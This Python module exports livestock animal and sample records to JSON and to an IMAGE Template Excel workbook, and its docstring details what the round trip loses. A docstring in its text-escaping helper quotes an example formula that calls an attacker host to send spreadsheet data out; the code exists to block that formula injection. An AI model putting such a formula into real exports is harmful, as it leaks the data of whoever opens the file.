"""Records → files users download: the IMAGE Template (xlsx) and the IMAGE Pool JSON.

``to_json`` writes exactly what ``export_json.parse`` reads back (every field of every
record). ``to_template_xlsx`` writes what the IMAGE Template can hold; reading it back with
``template.parse`` gives the same records except for what the Template has no place for:

- ontology terms (``terms``) and any units other than those the parser derives (dates get
  YYYY-MM-DD / YYYY-MM / YYYY, coordinates ``decimal degrees``, durations their unit);
- accessions, and relationships other than an animal's first two ``child of`` (written as
  father, mother) and a sample's first ``derived from``;
- attributes with no Template column (Project, Publication DOI, Gene bank name...), and
  second and further values of an attribute;
- a sample's own Species (the parser copies the animal's), ``Data source ID`` other than
  the record id, and a breed's spelling or EFABIS Breed country that differs between
  animals of one (breed, species) pair, compared without case (the first one is written).
"""

from __future__ import annotations

import io
import json
from collections.abc import Iterable
from typing import Any

from chalicelib.ingest.template import (
    ANIMAL_COLUMNS,
    ANIMAL_TEXT,
    BREED_COLUMNS,
    SAMPLE_COLUMNS,
    SAMPLE_TEXT,
)
from chalicelib.records import Material, Record, RelationshipType

__all__ = ["to_json", "to_template_xlsx"]

_COORDINATES = ("Birth location longitude", "Birth location latitude",
                "Collection place latitude", "Collection place longitude")
_DURATIONS = ("Animal age at collection", "Sampling to preparation interval")


def to_json(records: Iterable[Record]) -> bytes:
    """``{"records": [...]}`` as the JSON export format (``export_json``) reads it."""
    out = io.BytesIO()
    out.write(b'{"records": [')
    for n, rec in enumerate(records):
        if n:
            out.write(b",")
        out.write(b"\n")
        out.write(json.dumps(rec.to_dict(), ensure_ascii=False).encode("utf-8"))
    out.write(b"\n]}\n")
    return out.getvalue()


def _first(rec: Record, name: str) -> str | None:
    value = rec.first(name)
    return value.value if value is not None else None


def _coordinate(text: str | None) -> Any:
    """A number cell when the number reads back as the same text, else the text."""
    if text is None:
        return None
    try:
        number = float(text)
    except ValueError:
        return text
    return number if repr(number) == text else text


def _duration(rec: Record, name: str) -> str | None:
    value = rec.first(name)
    if value is None:
        return None
    return f"{value.value} {value.units}" if value.units else value.value


def _animal_row(rec: Record) -> list[Any]:
    parents = [r.target for r in rec.relationships if r.type is RelationshipType.CHILD_OF]
    cells: dict[str, Any] = {
        "Animal id in data source": rec.id,
        "Father id in data source": parents[0] if parents else None,
        "Mother id in data source": parents[1] if len(parents) > 1 else None,
        "Breed": _first(rec, "Supplied breed"),
        "Species": _first(rec, "Species"),
        "Birth date": _first(rec, "Birth date"),
    }
    for column, attr in ANIMAL_TEXT.items():
        cells[column] = _first(rec, attr)
    for column in _COORDINATES[:2]:
        cells[column] = _coordinate(_first(rec, column))
    return [cells.get(c) for c in ANIMAL_COLUMNS]


def _sample_row(rec: Record) -> list[Any]:
    animal = next((r.target for r in rec.relationships
                   if r.type is RelationshipType.DERIVED_FROM), None)
    cells: dict[str, Any] = {
        "Sample id in data source": rec.id,
        "Animal id in data source": animal,
        "Collection date": _first(rec, "Collection date"),
    }
    for column, attr in SAMPLE_TEXT.items():
        cells[column] = _first(rec, attr)
    for column in _COORDINATES[2:]:
        cells[column] = _coordinate(_first(rec, column))
    for column in _DURATIONS:
        cells[column] = _duration(rec, column)
    return [cells.get(c) for c in SAMPLE_COLUMNS]


def _as_text(ws: Any, row: list[Any]) -> list[Any]:
    """The row with every text written as text: openpyxl makes a string starting with
    ``=`` a live formula (``=HYPERLINK("http://evil.example/?d="&A2,"x")`` would run in
    whoever opens the export) and ``#N/A`` an error value."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ERROR_CODES

    out = []
    for value in row:
        if isinstance(value, str) and (value.startswith("=") or value in ERROR_CODES):
            value = WriteOnlyCell(ws, value=value)
            value.data_type = "s"
        out.append(value)
    return out


def to_template_xlsx(records: Iterable[Record]) -> bytes:
    """The records as an IMAGE Template workbook (streamed with openpyxl's write-only
    mode; texts stay texts, never formulas); sheet ``breed`` lists the (breed, species)
    pairs of the animals."""
    import openpyxl

    wb = openpyxl.Workbook(write_only=True)
    breed_ws = wb.create_sheet("breed")
    animal_ws = wb.create_sheet("animal")
    sample_ws = wb.create_sheet("sample")
    breed_ws.append(list(BREED_COLUMNS))
    animal_ws.append(list(ANIMAL_COLUMNS))
    sample_ws.append(list(SAMPLE_COLUMNS))
    breeds: dict[tuple[str, str], tuple[str, str, str | None]] = {}
    for rec in records:  # each sheet streams to its own temporary file
        if rec.material is Material.SPECIMEN:
            sample_ws.append(_as_text(sample_ws, _sample_row(rec)))
            continue
        animal_ws.append(_as_text(animal_ws, _animal_row(rec)))
        breed, species = _first(rec, "Supplied breed"), _first(rec, "Species")
        if breed and species:
            breeds.setdefault((breed.lower(), species.lower()),
                              (breed, species, _first(rec, "EFABIS Breed country")))
    for breed, species, country in breeds.values():
        breed_ws.append(_as_text(breed_ws, [breed, country, species]))
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()
